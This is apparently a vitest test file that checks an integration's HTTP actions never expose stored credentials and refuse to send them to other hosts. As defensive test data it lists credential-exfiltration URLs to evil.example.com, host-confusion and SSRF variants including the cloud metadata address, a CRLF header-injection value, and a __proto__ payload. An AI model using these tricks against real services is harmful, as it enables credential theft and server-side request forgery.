import { describe, expect, it, onTestFinished } from 'vitest';
import type { DataAction } from '../../src/actions/data-action.ts';
import type { JsonObject } from '../../src/authoring/json.ts';
import { startLoopbackServer } from '../support/loopback-server.ts';
import { compiledOf, openHostileDesk, type Said, SECRETS } from './hostile-desk.ts';

const BASIC = { type: 'basicAuth', fields: { userName: 'u', password: { secret: 'PASSWORD' } } };
const FIELDS = {
  type: 'userDefined',
  fields: { key: { secret: 'KEY' }, password: { secret: 'PASSWORD' } },
};
const FORMS = Object.values(SECRETS).flatMap((secret) => [
  secret,
  Buffer.from(secret).toString('base64').slice(0, -3),
  Buffer.from(`u:${secret}`).toString('base64'),
]);

/** What stands of any secret in something that people see. */
function leaked(shown: unknown): readonly string[] {
  const text = JSON.stringify(shown);
  return FORMS.filter((form) => text.includes(form));
}

/** A receiver that repeats everything it was sent, and an integration that sends there alone. */
async function echoing(status: number, credentials: JsonObject) {
  const server = await startLoopbackServer((request, response, body) => {
    const all = [request.url, request.headers.authorization, request.headers['x-key'], body].join(' ');
    response.writeHead(status);
    const shapes = { code: all, message: all, contextId: all, messageParams: { all }, entityId: all };
    response.end(JSON.stringify({ ...shapes, details: [{ errorCode: all, fieldName: all }] }));
  });
  onTestFinished(() => server.close());
  const crm = { type: 'custom-rest-actions', hosts: [server.host], credentials };
  const { desk } = openHostileDesk({ integrations: { crm } });
  const asked = (said: Partial<Said>) => compiledOf({ url: `${server.origin}/x`, ...said });
  return { server, desk, asked };
}

const run = { idempotencyKey: 'k', signal: new AbortController().signal };

describe('a receiver that repeats what it was sent', () => {
  it.each([400, 401, 403, 500, 302])('D8 shows no credential with status %i', async (status) => {
    const { desk, asked } = await echoing(status, BASIC);
    const dataAction = asked({ method: 'POST', body: '{}' });
    const tried = await desk.try(dataAction, {});
    expect(tried.outcome.result).toBe('failure');
    expect(leaked(tried)).toEqual([]);
    expect(leaked(await desk.runner.run(dataAction, { ...run, inputs: {} }))).toEqual([]);
    for (const traced of [true, false])
      expect(leaked(await desk.bench.run(dataAction, { input: {}, traced }))).toEqual([]);
  });

  it.each([200, 500])('D8 shows no credential of a template, in any form, with status %i', async (status) => {
    const { desk, asked, server } = await echoing(status, FIELDS);
    const dataAction = asked({
      url: `${server.origin}/x?k=$esc.url($credentials.key)&b=$encoding.base64($credentials.password)`,
      method: 'POST',
      headers: { 'X-Key': '${credentials.key}' },
      body: '{"p": "$esc.jsonString($credentials.password)"}',
      map: { m: '$.message' },
      success: '{"m": ${m}, "c": "${credentials.key}"}',
    });
    const tried = await desk.try(dataAction, {});
    expect(server.requests[0]?.headers['x-key']).toBe(SECRETS['KEY']);
    expect(tried.operations.length).toBeGreaterThan(5);
    expect(leaked(tried)).toEqual([]);
    expect(leaked(desk.plan(dataAction, {}))).toEqual([]);
  });

  it('D8 shows no credential that an author made a part of the host', async () => {
    const { desk, asked } = await echoing(200, FIELDS);
    const dataAction = asked({ url: 'https://${credentials.key}.evil.example.com/x' });
    const tried = await desk.try(dataAction, {});
    expect(tried.outcome).toMatchObject({ failure: { errorCode: 'request.refused' } });
    expect(leaked(tried)).toEqual([]);
    expect(leaked(desk.plan(dataAction, {}))).toEqual([]);
  });
});

describe('an author who would take credentials elsewhere', () => {
  it.each<[string, string]>([
    ['another port', 'http://127.0.0.1:PORT/x?k=${credentials.key}'],
    ['a host that only begins alike', 'http://HOST.evil.example.com/x?k=${credentials.key}'],
    ['a user name that looks like the host', 'http://HOST@evil.example.com/x?k=${credentials.key}'],
    ['a backslash', 'http://evil.example.com\\@HOST/${credentials.key}'],
    ['another spelling of this machine', 'http://[::ffff:127.0.0.1]:PORT/${credentials.key}'],
    ['the metadata service', 'http://169.254.169.254/latest/${credentials.key}'],
  ])('D8 is refused: %s', async (_case, template) => {
    const other = await startLoopbackServer((_request, response) => response.end('{}'));
    onTestFinished(() => other.close());
    const { desk, asked, server } = await echoing(200, FIELDS);
    const url = template.replace('HOST', server.host).replace('PORT', String(other.port));
    const tried = await desk.try(asked({ url }), {});
    expect(tried.outcome.result).toBe('failure');
    expect([server.requests.length, other.requests.length]).toEqual([0, 0]);
    expect(leaked(tried)).toEqual([]);
  });

  it('D8 reads none in the success template', async () => {
    const { desk, asked } = await echoing(200, FIELDS);
    const dataAction = asked({ success: '{"k": "$!{credentials.key}", "a": "$!{authResponse.a}"}' });
    const outcome = await desk.runner.run(dataAction, { ...run, inputs: {} });
    expect(outcome).toMatchObject({ result: 'success', output: { k: '', a: '' } });
  });
});

describe('authentication', () => {
  it('D8 of the operator goes in place of what an author wrote, in any spelling', async () => {
    const { desk, asked, server } = await echoing(200, BASIC);
    await desk.try(asked({ headers: { authorization: 'Basic YTpi', AUTHORIZATION: 'Basic YTpi' } }), {});
    const expected = `Basic ${Buffer.from(`u:${SECRETS['PASSWORD']}`).toString('base64')}`;
    expect(server.requests[0]?.headers.authorization).toBe(expected);
  });

  /** An integration whose authentication action is sent to the server and read as it says. */
  async function authenticated(answer: (url: string) => string, said: Partial<Said> = {}) {
    const server = await startLoopbackServer((request, response) => {
      response.statusCode = request.url === '/login' ? 200 : 500;
      const sent = String(request.headers.authorization);
      response.end(request.url === '/login' ? answer('') : JSON.stringify({ message: sent }));
    });
    onTestFinished(() => server.close());
    const login: DataAction = compiledOf({
      id: 'login',
      url: `${server.origin}/login`,
      method: 'POST',
      body: '{"k": "${credentials.key}"}',
      other: { actionType: 'customAuth', integration: 'crm' },
      ...said,
    });
    const credentials = {
      type: 'userDefinedOAuth',
      fields: { key: { secret: 'KEY' } },
      authentication: 'login',
      hosts: [server.host],
    };
    const crm = { type: 'custom-rest-actions', hosts: [server.host], credentials };
    const { desk, masker } = openHostileDesk({ integrations: { crm }, dataActions: [login] });
    const dataAction = compiledOf({
      url: `${server.origin}/x`,
      headers: { Authorization: 'Bearer $!{authResponse.access_token}' },
    });
    return { desk, masker, server, tried: await desk.try(dataAction, {}) };
  }

  it('D8 masks the token of an answer that holds a hundred thousand other texts', async () => {
    const junk = Array.from({ length: 60_000 }, (_, i) => `looks-like-a-token-${i}`);
    const { masker, tried, server } = await authenticated(() =>
      JSON.stringify({ junk, access_token: 'the-real-token-123456' }),
    );
    expect(server.requests.at(-1)?.headers.authorization).toBe('Bearer the-real-token-123456');
    expect(masker.text('the-real-token-123456')).toBe('••••');
    expect(JSON.stringify(tried)).not.toContain('the-real-token');
  }, 3000);

  it('is asked for once by an action that reads its own answer', async () => {
    const { server, tried } = await authenticated(() => '{"access_token": "a-token-of-16-chars"}', {
      headers: { 'X-Own': '$!{authResponse.access_token}' },
    });
    expect(tried.outcome.result).toBe('failure');
    expect(server.requests.map(({ url }) => url)).toEqual(['/login', '/x']);
    expect(server.requests[0]?.headers['x-own'] ?? '').toBe('');
  });

  it.each([
    '[]',
    'null',
    '"text"',
    '{"access_token": {"a": 1}, "expires_in": 1e999}',
    '{"access_token": "x\\r\\nX-Evil: 1", "expires_in": -5}',
    '{"expires_in": "9".repeat(400)}',
    '{"__proto__": {"access_token": "x"}}',
    '',
    '['.repeat(60),
  ])('ends as a failure or a harmless header, whatever it answers: %s', async (answer) => {
    const { server, tried } = await authenticated(() => answer);
    expect(tried.outcome.result).toBe('failure');
    for (const { headers } of server.requests) expect(headers).not.toHaveProperty('x-evil');
    expect(leaked(tried)).toEqual([]);
  });
});
